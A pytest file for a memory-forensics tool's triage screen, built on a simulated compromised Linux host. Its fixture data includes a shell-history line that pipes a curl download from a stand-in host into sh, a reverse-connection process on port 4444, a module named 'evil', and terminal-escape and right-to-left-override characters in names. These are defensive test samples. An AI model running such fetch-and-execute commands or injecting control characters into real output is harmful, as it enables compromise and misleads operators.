"""The triage screen of a small incident, as a whole."""

from __future__ import annotations

import dataclasses
import importlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest

from memdump import tables
from memdump.dump import Dump
from memdump.errors import UsageError

if TYPE_CHECKING:
    from collections.abc import Iterator

Run = Callable[..., Any]
START = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)
EXPECTED = Path(__file__).with_name("triage.txt")


def row(table: str, **facts: Any) -> Any:
    """A row of a real table; what is not given is nothing."""
    kind = importlib.import_module(f"memdump.tables.{tables.BUILT_IN[table]}").__dict__[table].row
    empty = {field.name: None for field in dataclasses.fields(kind)}
    assert set(facts) <= set(empty)
    return kind(**(empty | facts))


def process(pid: int, ppid: int, name: str, command_line: str | None = None, **facts: Any) -> Any:
    usual = {
        "uid": 0,
        "euid": 0,
        "kernel_thread": False,
        "deleted_executable": False,
        "executable": f"/usr/bin/{name}",
        "start_time": START + timedelta(seconds=pid),
        "address": 0xFFFF888000000000 + pid,
    }
    return row(
        "processes",
        pid=pid,
        ppid=ppid,
        name=name,
        command_line=command_line or name,
        **(usual | facts),
    )


def thread(pid: int, name: str) -> Any:
    return process(pid, 2, name, kernel_thread=True, executable=None, deleted_executable=None)


def socket(
    protocol: str, state: str, local: tuple[str, int], remote: tuple[str, int] | None, **facts: Any
) -> Any:
    return row(
        "sockets",
        protocol=protocol,
        type="stream" if protocol == "tcp" else "dgram",
        family="AF_INET6" if ":" in local[0] else "AF_INET",
        state=state,
        local_address=local[0],
        local_port=local[1],
        remote_address=remote[0] if remote else None,
        remote_port=remote[1] if remote else None,
        address=0xFFFF888000000000 + hash((local, remote)) % 2**40,
        **facts,
    )


def file(minute: int, path: str, size: int, **facts: Any) -> Any:
    usual = {"type": "regular", "file_system": "ext4", "deleted": False}
    return row(
        "recent_files", changed=START + timedelta(minutes=minute), path=path, size=size, **(usual | facts)
    )


ROWS: dict[str, list[Any]] = {
    "system": [
        row(
            "system",
            hostname="web1\x1b[2J",
            kernel_release="6.12.30-amd64",
            kernel_version="#1 SMP PREEMPT_DYNAMIC Debian 6.12.30-1",
            architecture="x86_64",
            boot_time=START,
            image_time=START + timedelta(days=3, hours=4, minutes=5),
            command_line="root=/dev/vda1 ro quiet",
            cpus=1,
            memory=1 << 30,
            taint="OE",
        )
    ],
    "processes": [
        process(1, 0, "systemd", "/sbin/init"),
        thread(2, "kthreadd"),
        thread(9, "kworker/0:1-events"),
        process(300, 1, "sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
        process(310, 300, "sshd", "sshd: alice@pts/0"),
        process(311, 310, "bash", "-bash", uid=1000, euid=1000, tty="pts/0"),
        process(350, 311, "su", "su -", tty="pts/0", uid=1000),
        process(351, 350, "bash", "-bash", tty="pts/0"),
        process(400, 1, "kworker/0:2", "[kworker/0:2]", executable="/memfd:x", deleted_executable=True),
        process(401, 1, "nginx\n\u202efake", "nginx: master process"),
        process(402, 351, "x", "/tmp/x --to 203.0.113.9", executable="/tmp/x", deleted_executable=True),
        *(process(500 + n, 1, "getty", uid=33, euid=33) for n in range(20)),
    ],
    "sockets": [
        socket("tcp", "LISTEN", ("0.0.0.0", 22), None, pid=300, process="sshd", inode=1),
        socket("tcp", "LISTEN", ("::", 443), None, pid=401, process="nginx", inode=2),
        socket("tcp", "LISTEN", ("::", 443), None, pid=400, process="kworker/0:2", inode=2),
        socket("udp", "UNCONNECTED", ("127.0.0.53", 53), None, pid=1, process="systemd", inode=3),
        socket("tcp", "ESTABLISHED", ("127.0.0.1", 22), ("127.0.0.1", 999), pid=310, process="sshd", inode=4),
        socket(
            "tcp", "ESTABLISHED", ("10.0.2.15", 40000), ("203.0.113.9", 4444), pid=402, process="x", inode=5
        ),
        socket("tcp", "TIME_WAIT", ("10.0.2.15", 40001), ("203.0.113.9", 4444)),
        *(
            socket("tcp", "ESTABLISHED", ("10.0.2.15", 443), ("198.51.100.7", 5000 + n), inode=10 + n)
            for n in range(9)
        ),
        socket(
            "tcp", "ESTABLISHED", ("10.0.2.15", 22), ("198.51.100.8", 7), pid=310, process="sshd", inode=30
        ),
        row("sockets", family="AF_UNIX", type="dgram", state="UNCONNECTED", path="/run/systemd/notify"),
    ],
    "shell_history": [
        row("shell_history", pid=351, shell="bash", time=START + timedelta(minutes=n), command=f"command {n}")
        for n in range(10, 0, -1)
    ]
    + [row("shell_history", pid=311, shell="bash", command="curl -s http://203.0.113.9/x\t| sh\nexit")],
    "recent_files": [
        file(50, "/memfd:x", 8192, file_system="tmpfs", deleted=True),
        file(49, "/tmp/x", 12345, deleted=True),
        file(48, "/proc/sys/kernel/printk", 0, file_system="proc"),
        file(48, "/tmp", 4096, type="directory"),
        file(47, "/root/.ssh/authorized_keys", 381),
        *(file(40 - n, f"/var/log/{n}.log", n << 20) for n in range(8)),
    ],
    "modules": [
        row("modules", name="evil", size=16384, taints="OE", address=0xFFFFFFFFC0000000),
        row("modules", name="ext4", size=1 << 20, taints="", address=0xFFFFFFFFC0100000),
    ],
}


@pytest.fixture
def incident(monkeypatch: pytest.MonkeyPatch) -> dict[str, list[Any]]:
    """The rows of the tables of every dump that is opened."""
    rows = {name: list(found) for name, found in ROWS.items()}
    image: Any = SimpleNamespace(path=Path("web1.lime"), identity=None, defects=[], close=lambda: None)

    def read(_: Dump, name: str) -> Iterator[Any]:
        if name not in rows:
            raise UsageError(f"no {name}")
        return iter(rows[name])

    monkeypatch.setattr(Dump, "open", staticmethod(lambda path, **_: Dump(image)))
    monkeypatch.setattr(Dump, "table", read)
    monkeypatch.delenv("COLUMNS", raising=False)
    return rows


def test_the_screen_of_an_incident(incident: object, capsys: pytest.CaptureFixture[str]) -> None:
    from memdump.cli import main

    assert main(["triage", "web1.lime"]) == 0
    out = capsys.readouterr().out
    assert all(line.isprintable() and len(line) <= 100 for line in out.splitlines())
    assert out == EXPECTED.read_text()


def test_a_section_that_cannot_be_had_does_not_hide_the_others(
    incident: dict[str, list[Any]], capsys: pytest.CaptureFixture[str]
) -> None:
    from memdump.cli import main

    del incident["processes"]
    assert main(["triage", "web1.lime"]) == 0
    out = capsys.readouterr().out
    assert "PROCESSES  no processes\n" in out
    assert out.endswith(EXPECTED.read_text().partition("NETWORK")[2])


def test_an_image_of_nothing_has_a_screen(
    incident: dict[str, list[Any]], capsys: pytest.CaptureFixture[str]
) -> None:
    from memdump.cli import main

    incident.update({name: [] for name in incident})
    assert main(["triage", "web1.lime"]) == 0
    titles = [line.split()[0] for line in capsys.readouterr().out.splitlines() if line]
    assert titles == ["MACHINE", "PROCESSES", "NETWORK", "SHELL", "FILES", "MODULES"]


def test_an_image_without_a_kernel_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from memdump.cli import main

    image = tmp_path / "zeros.raw"
    image.write_bytes(bytes(1 << 20))
    assert main(["triage", str(image)]) == 3
    told = capsys.readouterr()
    assert told.out == ""
    assert told.err.startswith(f"memdump: {image}: no Linux kernel for x86-64 found")
    assert told.err.count("\n") == 1
